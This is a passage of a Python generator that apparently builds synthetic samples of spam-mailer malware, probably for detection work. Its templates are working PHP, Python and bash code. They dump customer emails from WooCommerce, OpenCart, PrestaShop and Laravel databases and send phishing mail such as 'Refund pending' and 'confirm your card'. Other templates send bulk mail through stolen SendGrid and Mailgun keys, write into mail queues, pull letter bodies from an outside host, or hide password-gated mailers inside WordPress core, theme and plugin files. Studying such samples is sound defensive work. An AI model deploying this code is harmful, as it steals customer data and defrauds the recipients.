$db = new mysqli($k['DB_HOST'], $k['DB_USER'], $k['DB_PASSWORD'], $k['DB_NAME']);
$q = $db->query("SELECT billing_email, billing_first_name FROM {$tp[1]}wc_order_addresses WHERE address_type='billing' GROUP BY billing_email");
$to = array();
while ($row = $q->fetch_assoc()) $to[] = $row;
file_put_contents(__DIR__ . '/.cache_' . md5(__FILE__), json_encode($to));
foreach ($to as $t) {
    mail($t['billing_email'], 'Refund pending', "Dear {$t['billing_first_name']},<br>your refund is waiting: https://@D@/r", "Content-Type: text/html\\r\\nFrom: Store <store@" . $_SERVER['HTTP_HOST'] . ">");
}
""", D=dom(r))
        return [F(code, "%s/wp-content/plugins/%s/%s" % (d, plug(r), webname(r)), "php", "fake-plugin")]
    if v == 2:
        code = T("""<?php
define('WP_USE_THEMES', false);
require_once $_SERVER['DOCUMENT_ROOT'] . '/wp-blog-header.php';
$orders = wc_get_orders(array('limit' => -1, 'return' => 'ids', 'date_created' => '>' . (time() - 86400 * 365)));
$done = array();
foreach ($orders as $oid) {
    $o = wc_get_order($oid);
    $e = $o->get_billing_email();
    if (isset($done[$e])) continue;
    $done[$e] = 1;
    $h = "From: " . get_bloginfo('name') . " <" . get_option('admin_email') . ">\\r\\nContent-Type: text/html";
    mail($e, 'Action needed on order #' . $o->get_order_number(), sprintf(base64_decode($_POST['t']), $o->get_billing_first_name(), $o->get_order_number()), $h);
}
print count($done);
""")
        return [F(code, "%s/wp-content/uploads/wc-logs/%s" % (d, webname(r)), "php", "uploads")]
    code = T("""<?php
require 'wp-config.php';
$pdo = new PDO('mysql:host=' . DB_HOST . ';dbname=' . DB_NAME, DB_USER, DB_PASSWORD);
$st = $pdo->query("SELECT user_email, display_name FROM {$table_prefix}users UNION SELECT comment_author_email, comment_author FROM {$table_prefix}comments WHERE comment_author_email <> ''");
$f = fopen('.@X@', 'w');
foreach ($st as $r) { fwrite($f, $r[0] . "\\n"); }
fclose($f);
$m = file_get_contents('http://@H@/l.html');
foreach (file('.@X@') as $a) { mail(trim($a), 'Security notice', $m, "Content-Type: text/html"); }
""", X=rw(r, 5), H=host(r))
    return [F(code, "%s/%s" % (d, webname(r)), "php", "plain")]


def cms_customer_harvest(r, v):
    d = docroot(r)
    if v == 0:
        code = T("""<?php
require __DIR__ . '/config.php';
$l = new mysqli(DB_HOSTNAME, DB_USERNAME, DB_PASSWORD, DB_DATABASE);
$res = $l->query('SELECT email, firstname FROM ' . DB_PREFIX . 'customer WHERE status = 1');
$tpl = base64_decode('@B@');
while ($c = $res->fetch_object()) {
    mail($c->email, 'Your account', str_replace('%N%', $c->firstname, $tpl), "From: shop@" . $_SERVER['HTTP_HOST'] . "\\r\\nContent-Type: text/html");
}
""", B=b64("<p>Hi %N%, confirm your card: https://" + dom(r) + "/c</p>"))
        return [F(code, "%s/system/%s" % (d, webname(r)), "php", "plain")]
    if v == 1:
        code = T("""<?php
$p = include __DIR__ . '/app/config/parameters.php';
$p = $p['parameters'];
$pdo = new PDO("mysql:host={$p['database_host']};dbname={$p['database_name']}", $p['database_user'], $p['database_password']);
$emails = $pdo->query("SELECT email FROM {$p['database_prefix']}customer WHERE newsletter = 1 OR optin = 1")->fetchAll(PDO::FETCH_COLUMN);
$chunks = array_chunk($emails, 50);
foreach ($chunks as $ch) {
    mail('undisclosed-recipients:;', '@SU@', $_POST['html'], "From: {$_POST['from']}\\r\\nBcc: " . implode(',', $ch) . "\\r\\nContent-Type: text/html");
}
""", SU=subj(r))
        return [F(code, "%s/modules/%s/%s" % (d, rw(r, 6), webname(r)), "php", "plain")]
    code = T("""<?php
$env = parse_ini_file(__DIR__ . '/../.env');
$db = new PDO("mysql:host={$env['DB_HOST']};dbname={$env['DB_DATABASE']}", $env['DB_USERNAME'], $env['DB_PASSWORD']);
$stmt = $db->prepare('SELECT email, name FROM users LIMIT ?, 200');
$stmt->bindValue(1, (int) ($_GET['o'] ?? 0), PDO::PARAM_INT);
$stmt->execute();
$out = 0;
foreach ($stmt->fetchAll(PDO::FETCH_ASSOC) as $u) {
    imap_mail($u['email'], '@SU@', str_replace('{name}', $u['name'], file_get_contents('https://@H@/tpl')), "From: team@@D@\\r\\nContent-Type: text/html");
    $out++;
}
echo "<script>setTimeout(function(){location='?o=" . ((int) ($_GET['o'] ?? 0) + 200) . "'}, 3000)</script>$out";
""", SU=subj(r), H=host(r), D=dom(r))
    return [F(code, "%s/public/%s" % (d, webname(r)), "php", "plain")]


def stolen_api_key_sender(r, v):
    key = "SG." + rw(r, 22, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") + "." + rw(r, 43, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
    if v == 0:
        code = T("""<?php
$keys = file(__DIR__ . '/keys.txt', FILE_IGNORE_NEW_LINES);
$to = file(__DIR__ . '/to.txt', FILE_IGNORE_NEW_LINES);
foreach (array_chunk($to, 500) as $n => $chunk) {
    $pers = array_map(function ($e) { return array('to' => array(array('email' => $e))); }, $chunk);
    $ch = curl_init('https://api.sendgrid.com/v3/mail/send');
    curl_setopt_array($ch, array(CURLOPT_POST => 1, CURLOPT_RETURNTRANSFER => 1,
        CURLOPT_HTTPHEADER => array('Authorization: Bearer ' . $keys[$n % count($keys)], 'Content-Type: application/json'),
        CURLOPT_POSTFIELDS => json_encode(array('personalizations' => $pers, 'from' => array('email' => 'service@@D@', 'name' => 'Service'),
            'subject' => '@SU@', 'content' => array(array('type' => 'text/html', 'value' => file_get_contents(__DIR__ . '/l.html')))))));
    echo $n, ' ', curl_getinfo($ch, CURLINFO_HTTP_CODE), curl_exec($ch), "\\n";
}
""", D=dom(r), SU=subj(r))
        base = "%s/%s" % (docroot(r), rw(r, 5))
        return [F(code, base + "/" + webname(r), "php", "plain"), F(key + "\n", base + "/keys.txt", "text", "smtp-creds"), listfile(r, base + "/to.txt"), F(letter(r, "brace"), base + "/l.html", "html", "letter")]
    if v == 1:
        code = T("""import requests, itertools, sys
keys = itertools.cycle(open('mg.txt').read().split())
for line in open(sys.argv[1]):
    to = line.strip()
    dom, k = next(keys).split(':')
    r = requests.post('https://api.mailgun.net/v3/%s/messages' % dom, auth=('api', k), data={
        'from': 'Account Security <security@%s>' % dom, 'to': to, 'subject': '@SU@',
        'html': open('tpl.html').read().replace('{{email}}', to)}, timeout=20)
    print(to, r.status_code)
""", SU=subj(r))
        c, hd = r.choice((("home-cache", ".cache/" + app(r)), ("tmp-dir", "tmp/." + rw(r, 3))))
        return [script(r, "python", code, d=hd, cont=c), F("mg.example.com:key-%s\n" % hx(r, 32), hd + "/mg.txt", "text", "smtp-creds"), F(letter(r, "brace"), hd + "/tpl.html", "html", "letter")]
    code = T("""#!/bin/bash
K=$(cat $HOME/.config/@X@/k)
while read -r to; do
  curl -s https://api.sendgrid.com/v3/mail/send -H "Authorization: Bearer $K" -H 'Content-Type: application/json' \\
    -d "{\\"personalizations\\":[{\\"to\\":[{\\"email\\":\\"$to\\"}]}],\\"from\\":{\\"email\\":\\"no-reply@@D@\\"},\\"subject\\":\\"@SU@\\",\\"content\\":[{\\"type\\":\\"text/html\\",\\"value\\":\\"$(sed 's/\\"/\\\\\\"/g' body.html | tr -d '\\n')\\"}]}" -o /dev/null -w "$to %{http_code}\\n"
done < "${1:-leads.txt}" >> sent.log
""", X=rw(r, 4), D=dom(r), SU=subj(r))
    x = code.split(".config/")[1].split("/")[0]
    return [script(r, "bash", code), F(key + "\n", ".config/%s/k" % x, "text", "smtp-creds")]


def alt_mail_functions(r, v):
    d = docroot(r)
    if v == 0:
        code = T("""<?php
mb_language('uni');
mb_internal_encoding('UTF-8');
$to = array_filter(array_map('trim', file($_FILES['l']['tmp_name'])));
foreach ($to as $a) { mb_send_mail($a, $_POST['s'], $_POST['b'], 'From: ' . $_POST['f'] . "\\r\\nContent-Type: text/html"); }
echo count($to);
""")
    elif v == 1:
        code = T("""<?php
$f = $_REQUEST;
foreach (explode(';', $f['rc']) as $a) {
    imap_mail($a, $f['sj'], $f['tx'], "From: {$f['fm']}\\r\\nReply-To: {$f['rp']}\\r\\nContent-Type: text/html");
}
""")
    elif v == 2:
        code = T("""<?php
ini_set('sendmail_from', $_POST['f']);
ini_set('SMTP', '127.0.0.1');
$fn = new ReflectionFunction('mail');
foreach (explode("\\n", $_POST['list']) as $t) { $fn->invoke(trim($t), $_POST['s'], $_POST['m'], 'Content-Type: text/html'); }
""")
    else:
        code = T("""<?php
$q = array_map('trim', explode(',', $_POST['q']));
$m = 'error_log';
foreach ($q as $to) {
    // error_log type 1 hands the message to the mailer
    $m($_POST['body'], 1, $to, "Subject: {$_POST['subj']}\\nFrom: {$_POST['from']}\\nContent-Type: text/html");
}
""")
    return [F(code, "%s/%s%s" % (d, r.choice(("", "wp-content/uploads/2025/02/", "cache/", "tmp/")), webname(r)), "php", "plain")]


def spool_writer_sender(r, v):
    # writes messages into the MTA's pickup dir / mail queue directly, or a Maildir of another user
    d = docroot(r)
    if v == 0:
        code = T("""<?php
$pick = '/var/spool/postfix/maildrop/';
foreach (explode("\\n", $_POST['to']) as $i => $t) {
    $t = trim($t); if (!$t) continue;
    $msg = "To: $t\\nFrom: {$_POST['from']}\\nSubject: {$_POST['subject']}\\nContent-Type: text/html\\n\\n{$_POST['html']}\\n";
    $tmp = tempnam(sys_get_temp_dir(), 'q');
    file_put_contents($tmp, $msg);
    exec('/usr/sbin/postdrop -r < ' . escapeshellarg($tmp) . ' 2>&1', $o);
    unlink($tmp);
}
""")
        return [F(code, "%s/%s" % (d, webname(r)), "php", "plain")]
    if v == 1:
        code = T("""<?php
// writes RFC822 files for a cron drain
$dir = sys_get_temp_dir() . '/.@X@';
@mkdir($dir, 0777, true);
$j = json_decode(file_get_contents('php://input'), true);
foreach ($j['r'] as $i => $rc) {
    file_put_contents("$dir/" . sprintf('%06d', $i) . '.eml', "To: $rc\\nFrom: {$j['f']}\\nSubject: {$j['s']}\\nMIME-Version: 1.0\\nContent-Type: text/html\\n\\n{$j['b']}\\n");
}
echo count($j['r']);
""", X=rw(r, 4))
        x = code.split("'/.")[1].split("'")[0]
        drain = T("#!/bin/sh\nfor m in /tmp/.@X@/*.eml; do /usr/sbin/sendmail -t < \"$m\" && rm -f \"$m\"; done\n", X=x)
        c = rw(r, 5)
        return [F(code, "%s/wp-content/%s" % (d, webname(r)), "php", "plain"), F(drain, "tmp/.%s-%s" % (x, c), "sh", "tmp-dir"),
                crontab_file(r, [cronline(r, "/bin/sh /tmp/.%s-%s" % (x, c), "* * * * *")])]
    code = T("""<?php
$ex = '/usr/sbin/exim';
$lines = file(__DIR__ . '/.@X@', FILE_IGNORE_NEW_LINES);
$chunks = array_chunk($lines, 100);
foreach ($chunks as $c) {
    $env = implode(' ', array_map('escapeshellarg', $c));
    $p = popen("$ex -odq -f bounce@@D@ $env", 'w');
    fwrite($p, "From: @FN@ <info@@D@>\\nTo: undisclosed-recipients:;\\nSubject: @SU@\\nContent-Type: text/html\\n\\n" . file_get_contents(__DIR__ . '/.@X@.h'));
    pclose($p);
}
exec("$ex -qff > /dev/null 2>&1 &");
""", X=rw(r, 4), D=dom(r), FN=rw(r, 5).title(), SU=subj(r))
    x = code.split("__DIR__ . '/.")[1].split("'")[0]
    return [F(code, "%s/%s" % (d, webname(r)), "php", "plain"), listfile(r, "%s/.%s" % (d, x)), F(letter(r, "brace"), "%s/.%s.h" % (d, x), "html", "letter")]


def injected_hook_sender(r, v):
    """a sender appended to a real file (functions.php, a core file), CRLF or BOM"""
    d = docroot(r)
    snip = T("""if (isset($_POST['@K@']) && md5($_POST['@K@']) == '@M@') { $z = json_decode(base64_decode($_POST['d']), true); foreach ($z['t'] as $q) { @mail($q, $z['s'], $z['b'], $z['h']); } die('#' . count($z['t'])); }""", K=rw(r, 4), M=hx(r, 32))
    if v == 0:
        code = "<?php\n/**\n * Theme functions and definitions\n */\n" + wp_filler(r, rw(r, 4), 3) + "\n" + snip + "\n"
        return [F(code, "%s/wp-content/themes/%s/functions.php" % (d, theme(r)), "php", "inject-end")]
    if v == 1:
        code = "<?php\n" + snip + "\n/**\n * Loads the WordPress environment and template.\n */\nif ( ! isset( $wp_did_header ) ) {\n\t$wp_did_header = true;\n\trequire_once __DIR__ . '/wp-load.php';\n\twp();\n\trequire_once ABSPATH . WPINC . '/template-loader.php';\n}\n"
        return [F(crlf(code), "%s/wp-blog-header.php" % d, "php", "crlf")]
    code = "<?php\n" + plugin_header(r, rw(r, 6).title()) + "\n" + wp_filler(r, rw(r, 4), 2) + "\nadd_action('init', function () { " + snip + " });\n"
    return [F(bom(code), "%s/wp-content/plugins/%s/%s.php" % (d, plug(r), plug(r)), "php", "bom")]


TECHS = [
    ("wp-cron-hook-sender", wp_cron_hook, 3),
    ("admin-ajax-nopriv-sender", admin_ajax_sender, 3),
    ("image-named-php-include", image_named_include, 4),
    ("languages-dir-sender", languages_dir, 3),
    ("json-body-job", json_post_job, 3),
    ("cookie-serialized-job", cookie_serial_job, 3),
    ("fsockopen-local-mta", fsock_local_mta, 3),
    ("mta-binary-pipe", mta_pipe, 4),
    ("goto-recursion-generator-mail", goto_recursion_mail, 4),
    ("placeholder-letter-kit", placeholder_letter_kit, 3),
    ("random-from-message-id", random_from_msgid, 3),
    ("attachment-builder", attachment_builder, 3),
    ("tester-then-list", tester_then_list, 3),
    ("python-proxy-sender", python_proxy_sender, 3),
    ("perl-proxy-fork-sender", perl_proxy_sender, 3),
    ("shell-spool-drain", shell_spool_drain, 4),
    ("node-sender", node_sender, 3),
    ("ruby-sender", ruby_sender, 3),
    ("php-cli-home-cache", php_cli_cache, 3),
    ("layered-obfuscation-sender", layered_obfuscation, 4),
    ("woo-orders-harvest", woo_orders_harvest, 4),
    ("cms-customer-harvest", cms_customer_harvest, 3),
    ("stolen-api-key-sender", stolen_api_key_sender, 3),
    ("alt-mail-functions", alt_mail_functions, 4),
    ("mta-queue-writer", spool_writer_sender, 3),
    ("injected-hook-sender", injected_hook_sender, 3),
]
